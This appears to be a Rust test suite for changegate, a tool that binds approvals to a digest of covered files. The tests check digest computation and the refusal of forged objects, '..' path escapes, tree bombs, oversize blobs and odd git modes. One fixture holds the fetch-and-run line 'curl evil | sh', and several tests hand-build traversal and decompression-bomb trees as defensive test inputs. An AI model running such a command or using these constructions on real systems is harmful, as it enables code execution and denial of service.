//! The digest an approval binds to (SPEC §1, "Digest").

mod common;

use changegate::git::ChangeRepo;
use changegate::model::{covered_paths, CoveredPath, Digest};
use common::TestRepo;
use sha2::{Digest as _, Sha256};

const CHANGE: &str = "title: t\nkind: k\ntargets: [web]\ninclude: [lib/]\nsteps:\n  - id: a\n    run: ./scripts/apply.sh && ./scripts/tools\n    verify: ./scripts/check.sh\n";

fn repo() -> TestRepo {
    let repo = TestRepo::new();
    repo.write("changes/c.yaml", CHANGE)
        .write("scripts/apply.sh", "echo apply\n")
        .write("scripts/check.sh", "echo check\n")
        .write("scripts/tools/a.sh", "a\n")
        .write("scripts/tools/nested/b.sh", "b\n")
        .write("lib/common.sh", "common\n")
        .write("README.md", "unrelated\n");
    repo.commit("initial");
    repo
}

fn digest(repo: &TestRepo, rev: &str) -> String {
    let repo = ChangeRepo::open(repo.path()).unwrap();
    let snap = repo.at(rev).unwrap();
    let model = snap.load_model().unwrap();
    assert!(model.is_valid(), "{:?}", model.diagnostics);
    Digest::of(&covered_paths(&model.changes["c"], &snap).unwrap()).to_string()
}

#[test]
fn covered_paths_are_the_change_file_command_paths_and_included_blobs() {
    let repo = repo();
    let change_repo = ChangeRepo::open(repo.path()).unwrap();
    let snap = change_repo.at("HEAD").unwrap();
    let model = snap.load_model().unwrap();
    let paths: Vec<String> = covered_paths(&model.changes["c"], &snap)
        .unwrap()
        .into_iter()
        .map(|c| c.path)
        .collect();
    assert_eq!(
        paths,
        [
            "changes/c.yaml",
            "lib/common.sh",
            "scripts/apply.sh",
            "scripts/check.sh",
            "scripts/tools/a.sh",
            "scripts/tools/nested/b.sh"
        ]
    );
}

#[test]
fn digest_is_sha256_over_sorted_path_nul_blob_id_lines() {
    let repo = repo();
    // Recompute independently from git objects, as another program would.
    let head = repo.repo.head().unwrap().peel_to_tree().unwrap();
    let mut lines = Vec::new();
    head.walk(git2::TreeWalkMode::PreOrder, |root, entry| {
        let path = format!("{root}{}", entry.name().unwrap());
        let covered = path == "changes/c.yaml"
            || path.starts_with("lib/")
            || path.starts_with("scripts/tools/")
            || path == "scripts/apply.sh"
            || path == "scripts/check.sh";
        if covered && entry.kind() == Some(git2::ObjectType::Blob) {
            // An executable file's line names git's mode for it.
            let mode = if entry.filemode() == 0o100755 {
                "\x00100755"
            } else {
                ""
            };
            lines.push(format!("{path}\0{}{mode}\n", entry.id()));
        }
        git2::TreeWalkResult::Ok
    })
    .unwrap();
    lines.sort();
    let expected = format!(
        "sha256:{}",
        hex::encode(Sha256::digest(lines.concat().as_bytes()))
    );
    assert_eq!(digest(&repo, "HEAD"), expected);
}

#[test]
fn flipping_a_covered_script_s_executable_bit_changes_the_digest_and_what_exec_writes() {
    let repo = repo();
    let approved = ChangeRepo::open(repo.path()).unwrap();
    let before = approved.at("HEAD").unwrap().change("c").unwrap();
    // The same bytes, made executable: `exec` would write it 0755, so the
    // approval of the inert file must not carry over.
    std::fs::set_permissions(
        repo.path().join("scripts/apply.sh"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    repo.commit("chmod +x a covered script");
    let changes = ChangeRepo::open(repo.path()).unwrap();
    let snapshot = changes.at("HEAD").unwrap();
    let after = snapshot.change("c").unwrap();
    assert_ne!(after.digest, before.digest);
    let apply = |c: &[CoveredPath]| {
        c.iter()
            .find(|p| p.path == "scripts/apply.sh")
            .unwrap()
            .clone()
    };
    assert!(!apply(&before.covered).executable);
    assert!(apply(&after.covered).executable);
    // What was approved before the flip is not what this commit holds.
    let dest = tempfile::tempdir().unwrap();
    let refused = snapshot
        .materialize(&before.covered, &dest.path().join("old"))
        .unwrap_err();
    assert!(
        refused.to_string().contains("scripts/apply.sh"),
        "{refused}"
    );
    // What is approved now is written with its mode.
    snapshot
        .materialize(&after.covered, &dest.path().join("new"))
        .unwrap();
    let mode = |p: &str| {
        std::os::unix::fs::PermissionsExt::mode(
            &std::fs::metadata(dest.path().join("new").join(p))
                .unwrap()
                .permissions(),
        ) & 0o777
    };
    assert_eq!(mode("scripts/apply.sh"), 0o755);
    assert_eq!(mode("scripts/check.sh"), 0o644);
}

#[test]
fn changing_a_covered_script_changes_the_digest() {
    let repo = repo();
    let before = digest(&repo, "HEAD");
    repo.write("scripts/apply.sh", "echo apply --force\n");
    repo.commit("edit the script a step runs");
    assert_ne!(digest(&repo, "HEAD"), before);
}

#[test]
fn changing_a_blob_under_an_include_folder_changes_the_digest() {
    let repo = repo();
    let before = digest(&repo, "HEAD");
    repo.write("lib/new.sh", "new\n");
    repo.commit("add to an included folder");
    assert_ne!(digest(&repo, "HEAD"), before);
}

#[test]
fn changing_an_unrelated_file_keeps_the_digest() {
    let repo = repo();
    let before = digest(&repo, "HEAD");
    repo.write("README.md", "still unrelated, but edited\n")
        .write("other/x.sh", "x\n");
    repo.commit("unrelated edits");
    assert_eq!(digest(&repo, "HEAD"), before);
}

#[test]
fn the_same_content_committed_again_on_another_branch_has_the_same_digest() {
    let repo = repo();
    let first = repo.repo.head().unwrap().target().unwrap();
    let before = digest(&repo, "HEAD");
    // Re-create the same files in a new commit on a different branch with a different parent.
    repo.write("README.md", "changed first\n");
    let changed = repo.commit("move on");
    repo.branch("other", changed);
    repo.write("README.md", "unrelated\n");
    repo.commit("same content again");
    assert_eq!(digest(&repo, "other"), before);
    assert_eq!(digest(&repo, &first.to_string()), before);
}

#[test]
fn the_digest_reads_git_objects_not_the_work_tree() {
    let repo = repo();
    let before = digest(&repo, "HEAD");
    repo.write("scripts/apply.sh", "uncommitted edit\n");
    assert_eq!(digest(&repo, "HEAD"), before);
}

#[test]
fn digest_command_prints_the_digest_alone() {
    let repo = repo();
    let out = repo.run(&["digest", "c"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        String::from_utf8(out.stdout).unwrap(),
        format!("{}\n", digest(&repo, "HEAD"))
    );
}

#[test]
fn a_change_set_whose_bytes_were_replaced_under_its_id_is_refused() {
    // As `serve` runs: libgit2 does not re-hash what it reads, so the
    // bytes parsed are checked against their id by changegate itself.
    changegate::git::init_object_reads();
    let repo = repo();
    let id = ChangeRepo::open(repo.path())
        .unwrap()
        .git()
        .revparse_single("HEAD:changes/c.yaml")
        .unwrap()
        .id()
        .to_string();
    // The loose object rewritten in place: another change set, same id.
    let forged = CHANGE.replace("targets: [web]", "targets: [dev]");
    let mut raw = format!("blob {}\0", forged.len()).into_bytes();
    raw.extend_from_slice(forged.as_bytes());
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut z, &raw).unwrap();
    let object = repo
        .path()
        .join(format!(".git/objects/{}/{}", &id[..2], &id[2..]));
    let mut perms = std::fs::metadata(&object).unwrap().permissions();
    #[allow(clippy::permissions_set_readonly_false)]
    perms.set_readonly(false);
    std::fs::set_permissions(&object, perms).unwrap();
    std::fs::write(&object, z.finish().unwrap()).unwrap();

    let git = ChangeRepo::open(repo.path()).unwrap();
    let snap = git.at("HEAD").unwrap();
    let Err(err) = snap.change("c") else {
        panic!("the forged change set was read");
    };
    assert!(err.to_string().contains("does not match its id"), "{err}");
    // The full read refuses it too, rather than parsing the forged text.
    assert!(snap.load_model().is_err());
}

#[test]
fn a_path_nested_past_the_depth_limit_is_an_error_not_a_crash() {
    // 300,000 folders deep, or 300,000 slashes in a row: each would be a
    // frame of a recursive lookup.
    for deep in ["a/".repeat(300_000), format!("{}x", "/".repeat(300_000))] {
        for field in ["include", "run"] {
            let (include, run) = match field {
                "include" => (format!("[\"{deep}\"]"), "./run.sh".to_string()),
                // `./` then the path: `.////…/x` when it starts with `/`.
                _ => (
                    "[]".to_string(),
                    format!("./{}", &deep[deep.starts_with('/') as usize..]),
                ),
            };
            let repo = TestRepo::new();
            repo.write(
                "changes/c.yaml",
                format!("title: t\nkind: k\ntargets: [web]\ninclude: {include}\nsteps:\n  - id: a\n    run: \"{run}\"\n"),
            )
            .write("run.sh", "true\n");
            repo.commit("deep");
            common::assert_error(
                &repo.errors(),
                &["changes/c.yaml", "more than 256 folders deep"],
            );
        }
    }
}

#[test]
fn a_path_or_dependency_no_git_tree_can_hold_is_an_error_not_a_crash() {
    // A NUL byte (YAML's "\0") made libgit2's lookup by name panic; a name
    // of megabytes under 255 more folders cached every prefix of it.
    let long_name = "n".repeat(500_000);
    let cases: Vec<(String, String, &str)> = vec![
        ("[\"a\\0b\"]".into(), "./run.sh".into(), "holds a NUL byte"),
        // A command's words end at a NUL, so `./run` is the path looked up.
        (
            "[]".into(),
            "./run\\0.sh".into(),
            "`./run`, but that path is not in the tree",
        ),
        (
            format!("[\"{long_name}{}\"]", "/x".repeat(255)),
            "./run.sh".into(),
            "is longer than 4096 bytes",
        ),
        (
            format!("[\"{}\"]", "n".repeat(300)),
            "./run.sh".into(),
            "holds a name longer than 255 bytes",
        ),
    ];
    for (include, run, why) in cases {
        let repo = TestRepo::new();
        repo.write(
            "changes/c.yaml",
            format!("title: t\nkind: k\ntargets: [web]\ninclude: {include}\nsteps:\n  - id: a\n    run: \"{run}\"\n"),
        )
        .write("run.sh", "true\n");
        repo.commit("unreadable path");
        common::assert_error(&repo.errors(), &["changes/c.yaml", why]);
    }
    // `depends_on`: a NUL, a megabyte of id, and 20,000 unknown ids (each
    // once compared with every id under `changes/` for a hint).
    let unknown: Vec<String> = (0..20_000).map(|i| format!("\"gone-{i}\"")).collect();
    for (deps, why) in [
        ("[\"a\\0\"]".to_string(), "which is not a change id"),
        (format!("[\"{long_name}\"]"), "which is not a change id"),
        (
            format!("[{}]", unknown.join(", ")),
            "there is no changes/gone-19999.yaml",
        ),
    ] {
        let repo = TestRepo::new();
        repo.write(
            "changes/c.yaml",
            format!("title: t\nkind: k\ntargets: [web]\ndepends_on: {deps}\nsteps:\n  - id: a\n    run: ./run.sh\n"),
        )
        .write("run.sh", "true\n");
        for i in 0..2_000 {
            repo.write(&format!("changes/gone-x{i}.yaml"), "title: t\n");
        }
        repo.commit("unreadable dependency");
        let errors = repo.errors();
        common::assert_error(&errors, &["changes/c.yaml", why]);
        assert!(
            errors.iter().filter(|e| e.contains("did you mean")).count() <= 5,
            "hints for the first few unknown ids only"
        );
    }
}

/// A tree object written byte by byte: `(mode, name, id)` in the order
/// given, names git's own tools would refuse included.
fn hand_written_tree(repo: &git2::Repository, entries: &[(&str, &str, git2::Oid)]) -> git2::Oid {
    let mut raw = Vec::new();
    for (mode, name, id) in entries {
        raw.extend_from_slice(format!("{mode} {name}\0").as_bytes());
        raw.extend_from_slice(id.as_bytes());
    }
    repo.odb()
        .unwrap()
        .write(git2::ObjectType::Tree, &raw)
        .unwrap()
}

/// A repository whose HEAD, written object by object, holds `run.sh`,
/// change set `c` (running it and including `inc/`) and the hand-written
/// folder `inc` that `folder` makes; and that commit.
fn with_hand_written_inc(
    folder: impl FnOnce(&git2::Repository) -> git2::Oid,
) -> (TestRepo, git2::Oid) {
    let repo = TestRepo::new();
    repo.write("run.sh", "true\n");
    repo.commit("initial");
    let g = &repo.repo;
    let run = g.blob(b"true\n").unwrap();
    let change = g
        .blob(b"title: t\nkind: k\ntargets: [web]\ninclude: [inc/]\nsteps:\n  - id: a\n    run: ./run.sh\n")
        .unwrap();
    let inc = folder(g);
    let changes = hand_written_tree(g, &[("100644", "c.yaml", change)]);
    let root = hand_written_tree(
        g,
        &[
            ("40000", "changes", changes),
            ("40000", "inc", inc),
            ("100644", "run.sh", run),
        ],
    );
    let sig = git2::Signature::now("t", "t@example.com").unwrap();
    let parent = g.head().unwrap().peel_to_commit().unwrap();
    let commit = g
        .commit(
            Some("HEAD"),
            &sig,
            &sig,
            "hand-written inc/",
            &g.find_tree(root).unwrap(),
            &[&parent],
        )
        .unwrap();
    drop(parent);
    (repo, commit)
}

#[test]
fn an_entry_named_dot_dot_neither_validates_nor_leaves_the_checkout() {
    // `inc/..` and `inc/../..` are folders, the second holding `x`: libgit2
    // finds `inc/../../x` like any other path, and joined to the checkout
    // it names a file outside it.
    let mut x = None;
    let (repo, commit) = with_hand_written_inc(|g| {
        let blob = g.blob(b"echo escaped\n").unwrap();
        x = Some(blob);
        let up2 = hand_written_tree(g, &[("100644", "x", blob)]);
        let up1 = hand_written_tree(g, &[("40000", "..", up2)]);
        hand_written_tree(g, &[("40000", "..", up1)])
    });
    let x = x.unwrap();
    common::assert_error(
        &repo.errors(),
        &[
            "changes/c.yaml",
            "`inc/` holds an entry named `..`, which no checkout may hold",
        ],
    );
    let change_repo = ChangeRepo::open(repo.path()).unwrap();
    let snapshot = change_repo.at(&commit.to_string()).unwrap();
    let outside = tempfile::tempdir().unwrap();
    let checkout = outside.path().join("inc");
    std::fs::create_dir(&checkout).unwrap();
    let climbing = [CoveredPath {
        path: "inc/../../x".into(),
        blob: x.to_string(),
        executable: false,
    }];
    let refused = snapshot.materialize(&climbing, &checkout).unwrap_err();
    assert!(
        refused
            .to_string()
            .contains("`inc/../../x` does not stay inside the checkout"),
        "{refused}"
    );
    assert!(
        !outside.path().join("x").exists(),
        "nothing written outside"
    );
}

/// Change `id` at HEAD is refused, saying `why`.
fn assert_change_refused(repo: &TestRepo, id: &str, why: &str) {
    let change_repo = ChangeRepo::open(repo.path()).unwrap();
    let at_head = change_repo.at("HEAD").unwrap();
    match at_head.change(id) {
        Err(e) => assert!(e.to_string().contains(why), "{e}"),
        Ok(_) => panic!("change `{id}` was read"),
    };
}

/// Change `c` at HEAD runs out of its walk budget at folder `folder`:
/// `validate` says so, and the change is not read.
fn assert_walk_refused(repo: &TestRepo, folder: &str) {
    let why = format!(
        "the folders the change covers, up to `{folder}`, hold more than 100000 files and folders"
    );
    common::assert_error(&repo.errors(), &["changes/c.yaml", &why]);
    assert_change_refused(repo, "c", "more than 100000");
}

#[test]
fn a_change_naming_one_large_folder_many_times_is_refused_past_the_limit() {
    let repo = TestRepo::new();
    repo.write("run.sh", "true\n").write("big/0", "0\n");
    repo.commit("initial");
    // `big/` holds 60,000 empty folders: no file to list, but each is
    // walked. The change names it three times.
    let empty = repo.folder([]);
    let big = repo.folder((0..60_000).map(|i| (format!("{i}"), empty, 0o040000)));
    let change = "title: t\nkind: k\ntargets: [web]\ninclude: [big/, ./big, big]\nsteps:\n  - id: a\n    run: ./run.sh\n";
    let change = repo.repo.blob(change.as_bytes()).unwrap();
    let changes = repo.folder([("c.yaml".to_string(), change, 0o100644)]);
    repo.commit_folders(&[("big", big), ("changes", changes)]);
    assert_walk_refused(&repo, "big");
}

#[test]
fn many_change_sets_covering_one_large_folder_share_one_bounded_budget() {
    let repo = TestRepo::new();
    repo.write("run.sh", "true\n");
    repo.commit("initial");
    // One tree of 60,000 empty folders under 300 names (a push of a few
    // MiB), and 300 change sets of a few bytes, each covering one name.
    // Each is under its own limit; together they would list 18 million
    // entries at every read, twice.
    let empty = repo.folder([]);
    let big = repo.folder((0..60_000).map(|i| (format!("{i}"), empty, 0o040000)));
    let names: Vec<String> = (0..300).map(|i| format!("f{i:03}")).collect();
    let folders = repo.folder(names.iter().map(|n| (n.clone(), big, 0o040000)));
    let changes = repo.folder(names.iter().map(|n| {
        let change = format!("title: t\nkind: k\ntargets: [web]\ninclude: [big/{n}/]\nsteps:\n  - id: a\n    run: ./run.sh\n");
        (format!("{n}.yaml"), repo.repo.blob(change.as_bytes()).unwrap(), 0o100644)
    }));
    repo.commit_folders(&[("big", folders), ("changes", changes)]);
    let errors = repo.errors();
    let over: Vec<&String> = errors
        .iter()
        .filter(|e| e.contains("hold more than 16000000 files and folders in all"))
        .collect();
    // The first change sets are read; the rest are refused, each saying why.
    assert!(
        !errors.iter().any(|e| e.contains("changes/f000.yaml")),
        "{:?}",
        &errors[..errors.len().min(3)]
    );
    // Each is listed once as it is validated: 266 of them fit.
    assert_eq!(
        over.len(),
        300 - 16_000_000 / 60_000,
        "{:?}",
        errors.first()
    );
    assert!(over[0].starts_with("changes/f266.yaml"), "{}", over[0]);
    // The bound is per read of a commit: read alone, the last one passes.
    let change_repo = ChangeRepo::open(repo.path()).unwrap();
    assert!(change_repo.at("HEAD").unwrap().change("f299").is_ok());
}

#[test]
fn a_tree_bomb_under_an_included_folder_is_an_error_not_an_outage() {
    let repo = TestRepo::new();
    repo.write(
        "changes/c.yaml",
        "title: t\nkind: k\ntargets: [web]\ninclude: [lib/]\nsteps:\n  - id: a\n    run: ./run.sh\n",
    )
    .write("run.sh", "true\n")
    .write("lib/x", "x\n");
    repo.commit("initial");
    // `lib/` rewritten by hand as 1,000 names for one subtree on each of
    // three levels: a push of under 100 KiB whose files number 10^9.
    repo.commit_folders(&[("lib", repo.tree_bomb(1000, 3))]);
    assert_walk_refused(&repo, "lib");
}

/// A repository whose `policies/` names one blob of `size` zero bytes
/// `count` times (`p000.yaml` on), written by hand; and that blob.
fn policies_naming_one_blob(size: usize, count: usize) -> (TestRepo, git2::Oid) {
    let repo = TestRepo::new();
    repo.write("run.sh", "true\n");
    repo.commit("initial");
    let zeros = repo.repo.blob(&vec![0u8; size]).unwrap();
    let policies = repo.folder((0..count).map(|i| (format!("p{i:03}.yaml"), zeros, 0o100644)));
    repo.commit_folders(&[("policies", policies)]);
    (repo, zeros)
}

#[test]
fn a_folder_naming_one_huge_blob_many_times_is_not_read() {
    // 64 MiB of zeros compress to about 64 KiB; `policies/` names that
    // blob 200 times (12.5 GiB if each were read).
    let (repo, zeros) = policies_naming_one_blob(64 << 20, 200);
    let errors = repo.errors();
    common::assert_error(
        &errors,
        &["policies/p199.yaml", "the file is 67108864 bytes"],
    );
    assert_eq!(
        errors.iter().filter(|e| e.contains("67108864")).count(),
        200
    );
    // Unread, each still names its blob: two oversize versions of one
    // policy differ, and neither reads as the empty file.
    let change_repo = ChangeRepo::open(repo.path()).unwrap();
    let files = change_repo.at("HEAD").unwrap().policy_files().unwrap();
    assert_eq!(files.len(), 200);
    for file in files {
        assert!(file.bytes.is_empty());
        assert_eq!(file.oversize, Some((64 << 20, zeros.to_string())));
    }
}

#[test]
fn a_folder_naming_one_large_blob_past_the_total_is_refused() {
    // 1 MiB of zeros, just within one file's limit, named 300 times in
    // `policies/`: 300 MiB held at once.
    let (repo, _) = policies_naming_one_blob(1 << 20, 300);
    let change_repo = ChangeRepo::open(repo.path()).unwrap();
    let at_head = change_repo.at("HEAD").unwrap();
    match at_head.load_model() {
        Err(e) => assert!(
            e.to_string()
                .contains("the files in `policies` hold more than 256 MiB"),
            "{e}"
        ),
        Ok(_) => panic!("300 MiB of policies were read"),
    }
}

#[test]
fn a_blob_under_an_odd_git_mode_is_never_covered() {
    // libgit2 reads any mode with an execute bit as 100755; git checks out
    // 120755 as a symbolic link and 010755 as a submodule, and GitHub shows
    // them so. A reviewer never sees such a blob as a file.
    for (mode, shown) in [("120755", "120755"), ("10755", "10755")] {
        let (repo, _) = with_hand_written_inc(|g| {
            let hook = g.blob(b"curl evil | sh\n").unwrap();
            hand_written_tree(g, &[(mode, "hook", hook)])
        });
        common::assert_error(
            &repo.errors(),
            &[
                "changes/c.yaml",
                &format!("`inc/hook` has git mode {shown}"),
            ],
        );
        assert_change_refused(&repo, "c", &format!("has git mode {shown}"));
    }
}
